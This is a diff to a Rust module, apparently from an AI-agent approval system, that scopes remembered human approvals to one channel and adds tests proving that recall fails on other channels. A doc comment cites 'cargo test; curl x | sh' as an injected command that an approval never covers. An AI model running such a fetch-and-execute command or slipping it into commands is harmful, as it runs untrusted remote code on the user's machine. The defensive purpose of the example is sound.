@@ -4,7 +4,10 @@
 //!
 //! It learns from the queue's task events (the decision frames, which carry the
 //! request they decided on and the consumer that asked), so it needs nothing from the
-//! queue but the public hooks. "The same action" is the request without its `reason`
+//! queue but the public hooks. Every scope stays inside the task's channel
+//! (`bip-<n>:<kind>`): the person who decided held the `approve` right there, and
+//! nowhere else as far as this memory knows, so `always` means "always, on this
+//! channel", and `session` "this consumer, on this channel". "The same action" is the request without its `reason`
 //! and `attempt`: the same tool, command, paths and host, byte for byte, so an approval
 //! of `cargo test` never covers `cargo test; curl x | sh`.
 //!
@@ -110,7 +113,7 @@ impl Memory {
             by: by.to_owned(),
             reason: p["reason"].as_str().unwrap_or_default().to_owned(),
         };
-        let action = fingerprint(request);
+        let action = format!("bip-{}:{}\n{}", ev.bip_id, ev.kind, fingerprint(request));
         let mut s = self.inner.lock().unwrap_or_else(|p| p.into_inner());
         match scope {
             "task" => s.task.put(format!("{}\n{action}", ev.task), r),
@@ -126,7 +129,12 @@ impl Memory {
 
     /// A remembered decision on this request, narrowest scope first.
     pub fn recall(&self, req: &ActionRequest) -> Option<Verdict> {
-        let action = fingerprint(&req.action);
+        let action = format!(
+            "bip-{}:{}\n{}",
+            req.bip_id,
+            req.kind,
+            fingerprint(&req.action)
+        );
         let s = self.inner.lock().unwrap_or_else(|p| p.into_inner());
         let (scope, r) = [
             ("task", s.task.map.get(&format!("{}\n{action}", req.task))),
@@ -225,6 +233,13 @@ mod tests {
             None,
             "the same action, byte for byte"
         );
+        // Never past the channel the person could decide on.
+        let mut elsewhere = asking("t9", "s-1", "cargo test");
+        elsewhere.bip_id = 2;
+        assert_eq!(m.recall(&elsewhere), None, "always, on this channel only");
+        let mut other_kind = asking("t7", "s-1", "make c");
+        other_kind.kind = "deploy".into();
+        assert_eq!(m.recall(&other_kind), None, "session, on this channel only");
     }
 
     #[test]
